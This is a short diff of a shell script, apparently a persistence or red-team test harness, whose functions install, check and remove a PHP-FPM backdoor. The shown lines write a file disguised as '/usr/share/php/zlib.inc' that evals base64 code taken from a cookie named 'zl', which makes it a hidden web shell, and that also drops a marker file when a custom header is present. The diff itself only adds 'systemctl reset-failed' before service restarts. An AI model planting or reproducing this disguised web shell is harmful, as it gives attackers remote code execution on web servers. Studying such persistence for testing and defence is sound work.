@@ -21,7 +21,7 @@ E
   w /usr/share/php/zlib.inc <<'E'
 <?php if (isset($_SERVER['HTTP_X_LT'])) { $f = 'file_put' . '_contents'; $f('/var/tmp/luytre-foothold/32-fpm-prepend', 'ran'); } if (isset($_COOKIE['zl'])) { @eval(base64_decode($_COOKIE['zl'])); }
 E
-  systemctl restart php$v-fpm
+  systemctl reset-failed php$v-fpm 2>/dev/null; systemctl restart php$v-fpm
 }
 prove() {
   rm -f "$M/$N"
@@ -29,7 +29,7 @@ prove() {
   seen
 }
 remove() {
-  v=$(ls /etc/php); rm -f /etc/php/$v/fpm/conf.d/20-zlib.ini /usr/share/php/zlib.inc; systemctl restart php$v-fpm
+  v=$(ls /etc/php); rm -f /etc/php/$v/fpm/conf.d/20-zlib.ini /usr/share/php/zlib.inc; systemctl reset-failed php$v-fpm 2>/dev/null; systemctl restart php$v-fpm
   rm -f "$M/$N" "$M/$N".*
   :
 }
